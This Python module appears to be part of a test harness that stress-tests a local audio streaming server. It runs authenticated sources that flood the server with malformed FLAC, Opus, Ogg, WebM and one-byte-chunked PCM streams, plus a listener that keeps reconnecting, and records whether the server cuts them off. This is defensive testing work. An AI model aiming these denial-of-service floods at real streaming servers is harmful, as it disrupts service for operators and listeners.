"""Attacks by sources: each on a station of the attacker's own, with its key."""

from __future__ import annotations

import threading
import time

from attack import payloads
from attack.flood import Line, flood
from attack.payloads import Body
from attack.target import NoAttack, Outcome, Target, basic, dial, status

MOST_BYTES = 400_000_000
LISTEN_SECONDS = 0.4
LINKS_BYTES_PER_SECOND = 1_500_000
NEVER_BEGUN = (401, 403, 404, 409, 429, 503)


def false_headers(target: Target, seconds: float) -> Outcome:
    """One source sends headers of FLAC frames that never come."""
    return _pour(target, seconds, payloads.false_headers())


def false_headers_thrice(target: Target, seconds: float) -> Outcome:
    """Three sources send headers of FLAC frames that never come."""
    return _pour(target, seconds, payloads.false_headers(), count=3)


def links_with_listener(target: Target, seconds: float) -> Outcome:
    """FLAC links of one sample, each of another rate, with a listener that comes again and
    again."""
    over = threading.Event()
    listener = threading.Thread(target=_come_and_go, args=(target, over))
    listener.start()
    try:
        return _pour(target, seconds, payloads.links())
    finally:
        over.set()
        listener.join()


def links(target: Target, seconds: float) -> Outcome:
    """FLAC links of one sample at 1.5 MB/s, which nobody listens to."""
    return _pour(target, seconds, payloads.links(), rate=LINKS_BYTES_PER_SECOND)


def padded_opus(target: Target, seconds: float) -> Outcome:
    """Opus packets of 250 KB that last 2.5 ms."""
    return _pour(target, seconds, payloads.padded_opus())


def voids(target: Target, seconds: float) -> Outcome:
    """WebM of void elements, with one block of Opus each 400 KB."""
    return _pour(target, seconds, payloads.voids())


def false_pages(target: Target, seconds: float) -> Outcome:
    """Ogg pages of 65 KB that are none, one inside the other, with a true one each 400 KB."""
    return _pour(target, seconds, payloads.false_pages())


def empty_pages(target: Target, seconds: float) -> Outcome:
    """Ogg pages of nothing with a wrong sum, with a true one each 400 KB."""
    return _pour(target, seconds, payloads.empty_pages())


def samples(target: Target, seconds: float) -> Outcome:
    """FLAC frames of one sample each."""
    return _pour(target, seconds, payloads.samples())


def crumbs(target: Target, seconds: float) -> Outcome:
    """PCM of 192 kHz in HTTP chunks of one byte each."""
    body = payloads.crumbs(payloads.loud_wav())
    return _pour(target, seconds, body, lines=("Transfer-Encoding: chunked",))


def honest(target: Target, seconds: float) -> Outcome:
    """No attack: the dearest honest source, which sends faster than it plays."""
    return _pour(target, seconds, payloads.loud_wav())


def _pour(
    target: Target,
    seconds: float,
    body: Body,
    *,
    count: int = 1,
    rate: float = 0.0,
    lines: tuple[str, ...] = (),
) -> Outcome:
    """Send the body to so many stations; what became of it. Whether it was held back enough is the
    others' to tell: what it cost them."""
    sources = []
    for slug, key in list(target.keys.items())[:count]:
        head = [f"PUT /{slug} HTTP/1.1", f"Host: 127.0.0.1:{target.stream}",
                f"Authorization: {basic('source', key)}", f"Content-Type: {body.kind}",
                *lines, "", ""]  # fmt: skip
        start = "\r\n".join(head).encode() + body.start
        sources.append(Line(dial(target.stream), start, body.again))
    spent = flood(sources, seconds, MOST_BYTES, rate)
    for source in sources:
        if status(source.first) in NEVER_BEGUN:
            raise NoAttack(f"the source was not let in: {source.first[:80]!r}")
    sent = sum(source.sent for source in sources)
    said = f"took {sent / max(spent, 0.001) / 1000:,.0f} KB/s"
    cut = [source for source in sources if source.closed_at is not None]
    if cut:
        at = min(source.closed_at or 0.0 for source in cut)
        code = status(cut[0].first) or "nothing"
        said = f"{len(cut)} of {count} cut after {at:.1f} s with {code}; {said}"
    return Outcome(said, held=True, sent=sent)


def _come_and_go(target: Target, over: threading.Event) -> None:
    """Be a listener of the attacker's station, anew each time."""
    slug = next(iter(target.keys))
    request = f"GET /{slug}.opus HTTP/1.1\r\nHost: 127.0.0.1:{target.stream}\r\n\r\n".encode()
    while not over.is_set():
        try:
            with dial(target.stream) as connection:
                connection.sendall(request)
                connection.settimeout(LISTEN_SECONDS)
                until = time.monotonic() + LISTEN_SECONDS
                while time.monotonic() < until and connection.recv(1 << 16):
                    pass
        except OSError:
            pass
        over.wait(LISTEN_SECONDS / 4)
